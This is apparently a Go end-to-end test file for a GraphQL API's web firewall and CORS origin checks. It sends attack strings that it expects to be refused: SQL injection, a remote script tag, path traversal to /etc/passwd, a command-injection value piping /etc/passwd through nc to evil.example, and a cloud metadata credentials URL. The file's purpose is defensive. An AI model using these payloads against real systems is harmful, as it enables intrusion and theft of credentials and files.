package e2e_test

import (
	"bytes"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vogter/vogter/internal/local"
)

// TestFirewall shows what is refused; that the other tests pass shows that their
// traffic isn't.
func TestFirewall(t *testing.T) {
	p := running(t)
	nobody := client{base: p.stack.Env().API}
	attack := func(value string) vars { return vars{"by": vars{"reference": value}} }
	const find = `query($by: SubjectBy!) { findSubjects(by: $by) { nodes { id } } }`
	tests := []struct {
		name, document string
		v              vars
		code           string
	}{
		{"SQL", find, attack("x' UNION ALL SELECT name, password FROM users WHERE '1'='1' --"), "FORBIDDEN"},
		{"script", find, attack(`<script src="https://evil.example/x.js"></script>`), "FORBIDDEN"},
		{"traversal", find, attack("../../../../etc/passwd"), "FORBIDDEN"},
		{"command", find, attack("; cat /etc/passwd | nc evil.example 4444"), "FORBIDDEN"},
		{"address within", find, attack("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), "FORBIDDEN"},
		{"literal", `{ findSubjects(by: {reference: "<script>alert(1)</script>"}) { nodes { id } } }`, nil, "FORBIDDEN"},
		{"name with an apostrophe", find, attack("O'Brien"), "UNAUTHENTICATED"},
		{"name with words of SQL", find, attack("Select Wines from Denmark ApS"), "UNAUTHENTICATED"},
		{"Danish letters", find, attack("Åse Ødegård-Æbelø"), "UNAUTHENTICATED"},
		{"national id", find, attack("010136-1234"), "UNAUTHENTICATED"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body, err := json.Marshal(vars{"query": tt.document, "variables": tt.v})
			if err != nil {
				t.Fatal(err)
			}
			a := nobody.call(t, http.MethodPost, "/graphql", bytes.NewReader(body), "Content-Type", "application/json")
			var out struct {
				Errors []struct {
					Extensions struct{ Code, Rule, RequestID string }
				}
			}
			if err := json.Unmarshal(a.body, &out); err != nil || len(out.Errors) != 1 {
				t.Fatalf("%d %s", a.status, a.body)
			}
			e := out.Errors[0].Extensions
			if e.Code != tt.code || (e.Rule == "waf") != (tt.code == "FORBIDDEN") || e.RequestID != a.header.Get("Vogter-Request-Id") {
				t.Errorf("got %d %s, want %s", a.status, a.body, tt.code)
			}
			if tt.code != "FORBIDDEN" {
				return
			}
			log := p.apiLog(t, e.RequestID)
			if !strings.Contains(log, `"rules":[`) || !strings.Contains(log, `"code":"FORBIDDEN"`) {
				t.Errorf("the log doesn't tell which rules it met: %s", log)
			}
			for _, value := range []string{"UNION", "script", "passwd", "evil", "169.254"} {
				if strings.Contains(log, value) {
					t.Errorf("the log has what was sent: %s", log)
				}
			}
		})
	}
	t.Run("a machine writes the same names", func(t *testing.T) {
		c := p.machine(t, first)
		h := p.someone()
		in := h.input()
		in["name"] = vars{"full": "Sinéad O'Brien, Select Wines from Denmark ApS & Co. (København)"}
		if got := c.createPerson(t, in); got.Name.Full == "" {
			t.Error("the name is gone")
		}
	})
}

// apiLog returns the lines of the API's log about a call.
func (p *platform) apiLog(t *testing.T, request string) string {
	t.Helper()
	var found string
	eventually(t, 5*time.Second, "both lines are in the log", func() bool {
		b, err := os.ReadFile(filepath.Join(p.stack.Env().Dir, "logs", local.PartAPI+".log"))
		if err != nil {
			t.Fatal(err)
		}
		var lines strings.Builder
		for line := range strings.Lines(string(b)) {
			if strings.Contains(line, request) {
				lines.WriteString(line)
			}
		}
		found = lines.String()
		return strings.Count(found, "\n") > 1
	})
	return found
}

// TestPagesOfOthers calls from pages that tenants allow, and from others.
func TestPagesOfOthers(t *testing.T) {
	p := running(t)
	one, two := p.member(t, first, "OWNER"), p.member(t, second, "OWNER")
	const portal, other = "https://portal.one.example", "https://portal.two.example:8443"
	allow := func(c client, origins ...string) []fault {
		type answer struct {
			Tenant struct {
				ID      string
				Version int64
			}
		}
		now := ask[answer](t, c, `{ tenant { id version } }`, nil).Tenant
		_, faults := c.graphql(t, `mutation($input: UpdateTenantInput!) { updateTenant(input: $input) { tenant { allowedOrigins } } }`,
			vars{"input": vars{"id": now.ID, "expectedVersion": now.Version, "allowedOrigins": origins}})
		return faults
	}
	for _, wrong := range []string{"http://portal.one.example", "https://portal.one.example/", "*", "null", "https://Portal.example", "https://portal.example:443", "https://user@portal.example"} {
		if faults := allow(one, wrong); len(faults) != 1 || faults[0].Extensions.Code != "INVALID" || faults[0].Extensions.Field != "allowedOrigins" {
			t.Errorf("%s: got %+v", wrong, faults)
		}
	}
	if faults := append(allow(one, portal), allow(two, other)...); len(faults) > 0 {
		t.Fatalf("%+v", faults)
	}
	tests := []struct {
		name   string
		by     client
		origin string
		want   string
	}{
		{"its own", p.machine(t, first), portal, portal},
		{"another tenant's", p.machine(t, first), other, ""},
		{"the other tenant from its own", p.machine(t, second), other, other},
		{"a member with a token", one, portal, portal},
		{"nobody's", p.machine(t, first), "https://evil.example", ""},
		{"no caller", client{base: p.stack.Env().API}, portal, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := tt.by.call(t, http.MethodPost, "/graphql", strings.NewReader(`{"query": "{ viewer { id } }"}`),
				"Content-Type", "application/json", "Origin", tt.origin)
			if got := a.header.Get("Access-Control-Allow-Origin"); a.status != http.StatusOK || got != tt.want || a.header.Get("Access-Control-Allow-Credentials") != "" {
				t.Errorf("%d, %q may read it, want %q", a.status, got, tt.want)
			}
		})
	}
	for origin, want := range map[string]int{portal: http.StatusNoContent, other: http.StatusNoContent, "https://evil.example": http.StatusMethodNotAllowed} {
		a := client{base: p.stack.Env().API}.call(t, http.MethodOptions, "/graphql", http.NoBody,
			"Origin", origin, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type")
		if a.status != want {
			t.Errorf("question of %s: got %d, want %d", origin, a.status, want)
		}
	}
}
